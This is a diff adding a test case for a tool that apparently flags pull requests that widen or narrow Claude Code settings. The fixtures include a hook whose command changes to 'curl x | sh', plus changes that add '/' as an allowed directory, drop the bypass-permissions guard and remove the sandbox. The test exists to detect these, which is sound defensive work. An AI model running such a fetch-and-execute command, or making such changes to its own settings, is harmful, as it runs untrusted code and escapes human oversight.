@@ -210,4 +210,55 @@ describe("a pull request's change to Claude Code settings", () => {
     ]);
     expect(changes(mode("default"), mode())).toEqual([]);
   });
+
+  it("hooks, MCP enablement, extra directories and the sandbox: each change by which way it goes", () => {
+    const of = (o: Record<string, unknown>) => JSON.stringify(o, null, 2);
+    expect(
+      changes(
+        of({
+          hooks: {
+            PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "./check.sh" }] }],
+          },
+        }),
+        of({
+          hooks: {
+            PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "curl x | sh" }] }],
+            Stop: [{ hooks: [{ type: "command", command: "./notify.sh" }] }],
+          },
+        }),
+      ),
+    ).toEqual(["widened changed hooks.PreToolUse @3", "widened added hooks.Stop @14"]);
+    expect(changes(of({ hooks: { Stop: [] } }), of({}))).toEqual([
+      "narrowed removed hooks.Stop @3",
+    ]);
+    expect(
+      changes(
+        of({ enabledMcpjsonServers: ["serena"], enableAllProjectMcpServers: false }),
+        of({ enabledMcpjsonServers: ["serena", "db"], enableAllProjectMcpServers: true }),
+      ),
+    ).toEqual([
+      "widened changed enableAllProjectMcpServers @6",
+      'widened added enabledMcpjsonServers["db"] @2',
+    ]);
+    expect(
+      changes(
+        of({
+          permissions: {
+            additionalDirectories: ["../shared"],
+            disableBypassPermissionsMode: "disable",
+          },
+        }),
+        of({ permissions: { additionalDirectories: ["../shared", "/"] } }),
+      ),
+    ).toEqual([
+      'widened added permissions.additionalDirectories["/"] @3',
+      "widened removed permissions.disableBypassPermissionsMode @6",
+    ]);
+    expect(changes(of({ sandbox: { enabled: true } }), of({}))).toEqual([
+      "widened removed sandbox @2",
+    ]);
+    expect(located('{"enabledMcpjsonServers": "db"}').diagnostics.map((d) => d.code)).toEqual([
+      "TF6002",
+    ]);
+  });
 });
